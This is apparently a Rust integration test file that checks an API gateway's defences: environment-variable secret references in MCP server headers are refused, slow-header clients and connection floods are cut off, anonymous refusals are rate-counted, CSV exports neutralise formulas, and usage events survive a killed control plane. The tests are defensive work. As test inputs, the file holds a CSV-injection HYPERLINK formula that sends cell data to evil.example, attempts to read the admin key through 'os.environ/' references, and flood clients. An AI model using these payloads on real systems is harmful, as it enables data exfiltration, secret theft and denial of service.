//! Hardening, end to end: what an anonymous or hostile client can make the gateway do.
//! MCP servers added through the API cannot read the control plane's environment; slow-header
//! clients and connection floods are cut by Envoy; anonymous refusals are counted, not each
//! stored; CSV exports are safe to open in a spreadsheet; `/ready` reports the database; and a
//! control plane killed outright loses none of its Envoy's usage events.

use crate::harness::{http, Harness, ADMIN_KEY};
use serde_json::{json, Value};
use std::io::{Read, Write};
use std::net::TcpStream;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

async fn send(h: &Harness, method: reqwest::Method, path: &str, body: &Value) -> (u16, Value) {
    let r = http().request(method, h.url(path)).bearer_auth(ADMIN_KEY).json(body).send().await.unwrap();
    let status = r.status().as_u16();
    (status, r.json().await.unwrap_or(Value::Null))
}

#[tokio::test]
async fn api_mcp_servers_cannot_use_the_control_planes_environment() {
    let h = Harness::start().await;
    let post = reqwest::Method::POST;
    let with = |name: &str, value: &str| json!({"name": name, "url": "http://127.0.0.1:9/mcp", "headers": {"Authorization": value}});
    // AQUEDUCT_ADMIN_KEY is set in the control plane's environment; the other is not. Both are
    // refused alike, so the answer says nothing about which variables exist.
    let set = send(&h, post.clone(), "/api/v1/mcp-servers", &with("leak", "os.environ/AQUEDUCT_ADMIN_KEY")).await;
    let unset =
        send(&h, post.clone(), "/api/v1/mcp-servers", &with("leak", "os.environ/AQUEDUCT_NOT_SET_ANYWHERE")).await;
    assert_eq!(set.0, 400, "{set:?}");
    assert_eq!(set.1["error"]["param"], "headers.Authorization", "{set:?}");
    assert_eq!(set, unset, "no oracle for which variables are set");
    let sneaky = send(&h, post.clone(), "/api/v1/mcp-servers", &with("leak", " OS.Environ/AQUEDUCT_ADMIN_KEY")).await;
    assert_eq!(sneaky.0, 400, "{sneaky:?}");

    // A literal header is fine; replacing it with a reference is refused the same way.
    let (s, v) = send(&h, post, "/api/v1/mcp-servers", &with("plain", "Bearer literal")).await;
    assert_eq!(s, 201, "{v}");
    let body = json!({"url": "http://127.0.0.1:9/mcp", "headers": {"X-Key": "os.environ/AQUEDUCT_ADMIN_PASSWORD"}});
    let (s, v) = send(&h, reqwest::Method::PUT, "/api/v1/mcp-servers/plain", &body).await;
    assert_eq!((s, v["error"]["param"].as_str()), (400, Some("headers.X-Key")), "{v}");
    let (s, list) = send(&h, reqwest::Method::GET, "/api/v1/mcp-servers", &Value::Null).await;
    assert_eq!(s, 200);
    let names: Vec<&str> = list["data"].as_array().unwrap().iter().filter_map(|s| s["name"].as_str()).collect();
    assert_eq!(names, ["plain"], "{list}");
    assert_eq!(list["data"][0]["headers"], json!({"Authorization": "(set)"}), "the literal stays");
}

/// Reads from `s` until the peer closes (or resets) the connection; returns what arrived, or
/// `None` if it was still open after `limit`.
fn read_until_closed(s: &mut TcpStream, limit: Duration) -> Option<Vec<u8>> {
    s.set_read_timeout(Some(Duration::from_millis(100))).unwrap();
    let start = Instant::now();
    let mut got = Vec::new();
    let mut buf = [0u8; 4096];
    while start.elapsed() < limit {
        match s.read(&mut buf) {
            Ok(0) => return Some(got),
            Ok(n) => got.extend_from_slice(&buf[..n]),
            Err(e) if matches!(e.kind(), std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut) => {}
            Err(_) => return Some(got),
        }
    }
    None
}

#[tokio::test]
async fn slow_headers_are_cut_and_connections_beyond_the_limit_refused() {
    const LIMIT: usize = 20;
    let limit = LIMIT.to_string();
    let h = Harness::start_env(&[
        ("AQUEDUCT_REQUEST_HEADERS_TIMEOUT_MS", "1000"),
        ("AQUEDUCT_MAX_CONNECTIONS", limit.as_str()),
    ])
    .await;
    let listen = h.listen;
    tokio::task::spawn_blocking(move || {
        // A client that starts its headers and never finishes them is closed after ~1 s.
        let mut slow = TcpStream::connect(listen).unwrap();
        slow.write_all(b"GET /health HTTP/1.1\r\nHost: gw\r\nX-Slow: ").unwrap();
        let start = Instant::now();
        let got = read_until_closed(&mut slow, Duration::from_secs(6));
        let took = start.elapsed();
        let got = got.unwrap_or_else(|| panic!("a slow-header connection was still open after {took:?}"));
        assert!(took >= Duration::from_millis(800) && took < Duration::from_secs(4), "closed after {took:?}");
        let text = String::from_utf8_lossy(&got);
        assert!(text.is_empty() || text.starts_with("HTTP/1.1 408"), "{text}");

        // A complete request on a fresh connection is answered.
        let ask = |s: &mut TcpStream| -> String {
            let _ = s.write_all(b"GET /health HTTP/1.1\r\nHost: gw\r\nConnection: close\r\n\r\n");
            String::from_utf8_lossy(&read_until_closed(s, Duration::from_secs(5)).unwrap_or_default()).to_string()
        };
        assert!(ask(&mut TcpStream::connect(listen).unwrap()).starts_with("HTTP/1.1 200"));

        // LIMIT idle connections are held; one more is closed without an answer.
        let held: Vec<TcpStream> = (0..LIMIT).map(|_| TcpStream::connect(listen).unwrap()).collect();
        std::thread::sleep(Duration::from_millis(500));
        let over = TcpStream::connect(listen).map(|mut s| ask(&mut s)).unwrap_or_default();
        assert!(over.is_empty(), "connection {} of a limit of {LIMIT} was served: {over}", LIMIT + 1);
        // Room again once one closes.
        drop(held);
        let start = Instant::now();
        loop {
            if ask(&mut TcpStream::connect(listen).unwrap()).starts_with("HTTP/1.1 200") {
                break;
            }
            assert!(start.elapsed() < Duration::from_secs(5), "no connection accepted after the others closed");
            std::thread::sleep(Duration::from_millis(100));
        }
    })
    .await
    .unwrap();
}

/// A counter's value in Prometheus text, 0 if absent.
fn counter(metrics: &str, series: &str) -> u64 {
    metrics.lines().find_map(|l| l.strip_prefix(series).and_then(|v| v.trim().parse().ok())).unwrap_or(0)
}

async fn metrics(h: &Harness) -> String {
    http().get(format!("http://{}/metrics", h.http)).send().await.unwrap().text().await.unwrap()
}

#[tokio::test]
async fn anonymous_refusals_are_counted_not_each_stored() {
    anonymous_refusals(Harness::start().await).await;
}

#[tokio::test]
async fn anonymous_refusals_are_counted_not_each_stored_on_postgres() {
    anonymous_refusals(Harness::start_pg(&[]).await).await;
}

/// 1,000 requests without a valid key: the counter shows each, the ledger a row or two.
async fn anonymous_refusals(h: Harness) {
    const N: u64 = 1000;
    let series = "aqueduct_anonymous_refusals_total{status=\"401\",outcome=\"unauthorized\"}";
    let sent = Arc::new(AtomicU64::new(0));
    let workers: Vec<_> = (0..8)
        .map(|w| {
            let (url, sent) = (h.url("/v1/chat/completions"), sent.clone());
            tokio::spawn(async move {
                let c = http();
                let body = json!({"model": "chat", "user": "anyone", "messages": [{"role": "user", "content": "hi"}]});
                while sent.fetch_add(1, Ordering::Relaxed) < N {
                    let req = c.post(&url).header("user-agent", "anonymous-flood").json(&body);
                    // Half without a key, half with one that does not exist.
                    let req = if w % 2 == 0 { req } else { req.bearer_auth("sk-aq-not-a-key") };
                    let r = req.send().await.unwrap();
                    assert_eq!(r.status(), 401);
                }
            })
        })
        .collect();
    for w in workers {
        w.await.unwrap();
    }
    h.eventually(Duration::from_secs(20), || async { counter(&metrics(&h).await, series) >= N }).await;
    tokio::time::sleep(Duration::from_millis(500)).await;
    assert_eq!(counter(&metrics(&h).await, series), N, "every refusal counted once");

    let r = http().get(h.url("/api/v1/usage/requests?limit=10000")).bearer_auth(ADMIN_KEY).send().await.unwrap();
    let v: Value = r.json().await.unwrap();
    let rows: Vec<&Value> =
        v["data"].as_array().unwrap().iter().filter(|r| r["user_agent"] == "anonymous-flood").collect();
    eprintln!("{N} anonymous refusals: {} ledger rows", rows.len());
    // One per client address per minute: the flood spans at most a minute boundary or two.
    assert!(!rows.is_empty() && rows.len() <= 3, "{} rows: {rows:#?}", rows.len());
    assert!(rows.iter().all(|r| r["status"] == 401 && r["token_id"].is_null()));
}

#[tokio::test]
async fn csv_exports_neutralise_formulas() {
    let h = Harness::start().await;
    let (_, key) = h.create_token("csv", None).await;
    h.eventually(Duration::from_secs(10), || async {
        http().get(h.url("/v1/models")).bearer_auth(&key).send().await.map(|r| r.status() == 200).unwrap_or(false)
    })
    .await;
    let ua = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")";
    let body = json!({"model": "chat", "user": "@SUM(1+1)", "messages": [{"role": "user", "content": "hi"}]});
    let r = http().post(h.url("/v1/chat/completions")).bearer_auth(&key).header("user-agent", ua).json(&body);
    assert_eq!(r.send().await.unwrap().status(), 200);
    let csv = || async {
        let r = http().get(h.url("/api/v1/usage/requests?format=csv")).bearer_auth(ADMIN_KEY).send().await.unwrap();
        r.text().await.unwrap()
    };
    h.eventually(Duration::from_secs(5), || async { csv().await.contains("HYPERLINK") }).await;
    let text = csv().await;
    assert!(text.contains("\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Click\"\")\""), "{text}");
    assert!(text.contains(",'@SUM(1+1),"), "{text}");
    // No cell of any line starts a formula.
    for line in text.lines() {
        for cell in line.split(',') {
            let cell = cell.trim_start_matches('"');
            assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "{cell:?} in {line}");
        }
    }
}

#[tokio::test]
async fn ready_reports_a_database_that_went_away() {
    let h = Harness::start_pg(&[]).await;
    let ready = || async {
        let r = http().get(h.url("/ready")).send().await.unwrap();
        (r.status().as_u16(), r.json::<Value>().await.unwrap_or(Value::Null))
    };
    assert_eq!(ready().await, (200, json!({"status": "ready"})));
    let url = h.database_url.clone().unwrap();
    let name = url.rsplit('/').next().unwrap().split('?').next().unwrap().to_string();
    let admin = sqlx::postgres::PgPoolOptions::new()
        .max_connections(1)
        .connect(&crate::harness::pg_server_url())
        .await
        .unwrap();
    sqlx::query(&format!("DROP DATABASE {name} WITH (FORCE)")).execute(&admin).await.unwrap();
    admin.close().await;
    let start = Instant::now();
    let (status, v) = ready().await;
    assert_eq!(status, 503, "{v}");
    assert!(start.elapsed() < Duration::from_secs(5), "answered in {:?}", start.elapsed());
    assert_eq!(v["status"], "not_ready", "{v}");
    assert!(v["database"].as_str().is_some_and(|d| d.starts_with("unreachable")), "{v}");
    assert!(v.get("xds").is_none(), "{v}");
    // Liveness is Envoy's own and unaffected.
    assert_eq!(http().get(h.url("/health")).send().await.unwrap().status(), 200);
}

/// Kills the keeper named in `envoy.pid` when dropped (its Envoy follows: Envoy stops when its
/// parent dies), so that a failing test leaves no process.
struct EnvoyGuard(std::path::PathBuf);

impl Drop for EnvoyGuard {
    fn drop(&mut self) {
        if let Ok(pid) = std::fs::read_to_string(&self.0) {
            let _ = std::process::Command::new("kill").args(["-KILL", pid.trim()]).status();
        }
    }
}

fn alive(pid: &str) -> bool {
    std::fs::read_to_string(format!("/proc/{pid}/stat"))
        .is_ok_and(|s| s.rsplit_once(") ").is_some_and(|(_, rest)| !rest.starts_with('Z')))
}

#[tokio::test]
async fn a_control_plane_killed_outright_loses_no_usage_event() {
    let admin = crate::harness::free_port();
    let env = [
        ("AQUEDUCT_ENVOY", crate::harness::envoy_bin().display().to_string()),
        ("AQUEDUCT_ENVOY_ADMIN", format!("127.0.0.1:{admin}")),
        ("AQUEDUCT_ENVOY_BASE_ID", admin.to_string()),
    ];
    let env: Vec<(&str, &str)> = env.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let mut h = Harness::start_supervised(&env).await;
    let pid_file = h.dir.path().join(aqueduct::envoy::PID_FILE);
    let _guard = EnvoyGuard(pid_file.clone());
    // The pid file names Envoy's keeper (its parent, which outlives a killed control plane).
    let first_envoy = std::fs::read_to_string(&pid_file).unwrap().trim().to_string();
    let (token, key) = h.create_token("killed", None).await;
    h.eventually(Duration::from_secs(10), || async {
        http().get(h.url("/v1/models")).bearer_auth(&key).send().await.map(|r| r.status() == 200).unwrap_or(false)
    })
    .await;

    let stop = Arc::new(AtomicBool::new(false));
    let ok = Arc::new(AtomicU64::new(1)); // the probe above
    let load: Vec<_> = (0..4)
        .map(|_| {
            let (stop, ok, url, key) = (stop.clone(), ok.clone(), h.url("/v1/chat/completions"), key.clone());
            tokio::spawn(async move {
                let c = http();
                let body = json!({"model": "chat", "max_tokens": 3, "messages": [{"role": "user", "content": "hi"}]});
                while !stop.load(Ordering::Relaxed) {
                    if let Ok(r) = c.post(&url).bearer_auth(&key).json(&body).send().await {
                        if r.status() == 200 && r.bytes().await.is_ok() {
                            ok.fetch_add(1, Ordering::Relaxed);
                        }
                    }
                    tokio::time::sleep(Duration::from_millis(20)).await;
                }
            })
        })
        .collect();
    tokio::time::sleep(Duration::from_secs(1)).await;
    // SIGKILL: no drain. Envoy keeps serving (and queueing events) with its last configuration.
    h.stop_cp();
    tokio::time::sleep(Duration::from_secs(1)).await;
    stop.store(true, Ordering::Relaxed);
    for t in load {
        t.await.unwrap();
    }
    let answered = ok.load(Ordering::Relaxed);
    assert!(alive(&first_envoy), "Envoy outlives a control plane killed outright");

    // The next control plane drains that Envoy (its events reach the new control plane), stops
    // it and starts its own; SIGTERM then stops everything with a drain.
    h.start_cp();
    let current = || std::fs::read_to_string(&pid_file).map(|p| p.trim().to_string()).unwrap_or_default();
    h.eventually(Duration::from_secs(20), || async { !current().is_empty() && current() != first_envoy }).await;
    assert!(!alive(&first_envoy), "the previous Envoy was retired before a new one started");
    h.wait_ready().await;
    let second_envoy = current();
    let status = h.terminate_cp();
    assert!(status.success(), "clean exit: {status:?}");
    assert!(!alive(&second_envoy), "no Envoy left behind");
    assert!(!pid_file.exists(), "an orderly stop removes {}", pid_file.display());

    let rows = h.stored_requests(token).await;
    eprintln!("control plane killed under load: {answered} answered, {} stored", rows.len());
    assert!(rows.len() as u64 >= answered, "every answered request was handed over: {} of {answered}", rows.len());
}

#[tokio::test]
async fn an_envoy_whose_control_plane_never_returns_stops_after_the_grace_period() {
    let admin = crate::harness::free_port();
    let env = [
        ("AQUEDUCT_ENVOY", crate::harness::envoy_bin().display().to_string()),
        ("AQUEDUCT_ENVOY_ADMIN", format!("127.0.0.1:{admin}")),
        ("AQUEDUCT_ENVOY_BASE_ID", admin.to_string()),
        ("AQUEDUCT_ENVOY_ORPHAN_GRACE_SECS", "1".to_string()),
    ];
    let env: Vec<(&str, &str)> = env.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let mut h = Harness::start_supervised(&env).await;
    let pid_file = h.dir.path().join(aqueduct::envoy::PID_FILE);
    let _guard = EnvoyGuard(pid_file.clone());
    let keeper = std::fs::read_to_string(&pid_file).unwrap().trim().to_string();
    h.stop_cp();
    assert!(alive(&keeper), "Envoy outlives a control plane killed outright");
    // 1 s of grace, then a drain of 2.5 s.
    h.eventually(Duration::from_secs(10), || async { !alive(&keeper) }).await;
    h.eventually(Duration::from_secs(5), || async { TcpStream::connect(("127.0.0.1", admin)).is_err() }).await;
}
